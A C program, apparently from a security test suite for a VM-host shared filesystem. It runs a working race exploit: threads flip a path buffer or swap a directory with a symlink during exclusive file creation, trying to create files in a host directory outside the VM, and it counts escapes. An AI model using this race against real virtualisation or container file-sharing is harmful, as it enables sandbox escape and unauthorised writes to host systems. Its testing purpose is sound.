/* An O_CREAT|O_EXCL creation's path flipped, while the manager serves it, between a new name
 * in the VM and a new name in a host directory outside the VM's view (the C loop serves a
 * plain creation, hvfs/_native/served_write.h; the rest is Python's).
 *
 * excl_flip TRIES SECONDS VOLUME FORBIDDEN [FORBIDDEN...]
 *
 * The program works in VOLUME (its cwd). Each FORBIDDEN spells a new name in the host
 * directory (its host path, "../" ones up and out of the volume, through a symlink on the
 * volume to it); for its share of the time a thread flips a buffer between the allowed name
 * ("made", spelt absolute or relative as FORBIDDEN is) and FORBIDDEN, while the main thread
 * creates it (O_WRONLY|O_CREAT|O_EXCL, as tar does), writes a byte, and looks whether what it
 * made is VOLUME's "made" (then removes it for the next try). FORBIDDEN "swap:HOSTDIR" is
 * another race: the path is VOLUME/swapdir/made, and the thread exchanges (RENAME_EXCHANGE)
 * swapdir, a directory of the volume, with a symlink to HOSTDIR, again and again.
 *
 * Counters: "inside" (a creation made the volume's file), "refused" (an error), "escapes"
 * (a file made that is not the volume's), "tries".
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <linux/fs.h>
#include <unistd.h>

static char buffer[4096], allowed[4096], forbidden[4096], host[4096];
static atomic_int stop;
static long inside, refused, escapes, exists;

static void dwell(void) {
    for (volatile int i = 0; i < 64; i++) {
    }
}

static void *flip(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        memcpy(buffer, allowed, strlen(allowed) + 1);
        dwell();
        memcpy(buffer, forbidden, strlen(forbidden) + 1);
        dwell();
    }
    return NULL;
}

/* The volume's "swapdir" is its directory, then a symlink to the host directory, in turn. */
static void *swap(void *unused) {
    (void)unused;
    while (!atomic_load(&stop)) {
        syscall(SYS_renameat2, AT_FDCWD, "swapdir", AT_FDCWD, "swap.link", RENAME_EXCHANGE);
        dwell();
    }
    return NULL;
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    if (argc < 5) {
        fprintf(stderr, "usage: excl_flip TRIES SECONDS VOLUME FORBIDDEN...\n");
        return 2;
    }
    const char *volume = argv[3];
    if (chdir(volume) < 0)
        return 3;
    int targets = argc - 4;
    double start = attack_now(), share = (attack_deadline - start) / targets;
    long i = 0;
    for (int k = 0; k < targets; k++) {
        const char *target = argv[4 + k];
        int swapping = strncmp(target, "swap:", 5) == 0;
        int home = AT_FDCWD; /* the directory of the volume a creation makes "made" in */
        if (swapping) {
            snprintf(host, sizeof host, "%s", target + 5);
            snprintf(buffer, sizeof buffer, "%s/swapdir/made", volume);
            mkdir("swapdir", 0755);
            if (symlink(host, "swap.link") < 0 || (home = open("swapdir", O_PATH | O_DIRECTORY | O_CLOEXEC)) < 0)
                return 5;
        } else {
            snprintf(forbidden, sizeof forbidden, "%s", target);
            if (target[0] == '/')
                snprintf(allowed, sizeof allowed, "%s/made", volume);
            else
                snprintf(allowed, sizeof allowed, "made");
            memcpy(buffer, allowed, strlen(allowed) + 1);
        }
        atomic_store(&stop, 0);
        pthread_t flipper;
        pthread_create(&flipper, NULL, swapping ? swap : flip, NULL);
        double until = start + share * (k + 1);
        long last = attack_tries / targets * (k + 1);
        for (; attack_more(i) && i < last && attack_now() < until; i++) {
            int fd = open(buffer, O_WRONLY | O_CREAT | O_EXCL | O_NOCTTY | O_NONBLOCK | O_CLOEXEC, 0600);
            if (fd < 0) {
                refused++;
                exists += errno == EEXIST;
                continue;
            }
            struct stat got, there;
            if (fstat(fd, &got) < 0 || write(fd, "w", 1) != 1)
                got.st_ino = 0;
            close(fd);
            if (fstatat(home, "made", &there, AT_SYMLINK_NOFOLLOW) == 0 && there.st_ino == got.st_ino) {
                inside++;
                unlinkat(home, "made", 0);
            } else {
                escapes++;
            }
        }
        atomic_store(&stop, 1);
        pthread_join(flipper, NULL);
        if (home != AT_FDCWD)
            close(home);
    }
    printf("{\"tries\": %ld, \"inside\": %ld, \"refused\": %ld, \"escapes\": %ld, \"exists\": %ld}\n", i, inside,
           refused, escapes, exists);
    return 0;
}
